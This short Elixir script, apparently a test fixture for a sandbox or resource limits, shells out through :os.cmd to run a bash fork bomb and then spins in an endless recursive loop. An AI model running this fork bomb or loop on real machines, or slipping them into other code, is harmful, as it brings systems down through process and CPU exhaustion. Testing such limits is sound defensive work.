# @MARKER@: the BEAM does not fork from Elixir code, so it does what an attacker would: a shell fork bomb.
:os.cmd(String.to_charlist("f() { f | f & }; f # @MARKER@"))

defmodule Spin do
  def loop(n), do: loop(n + 1)
end

Spin.loop(0)
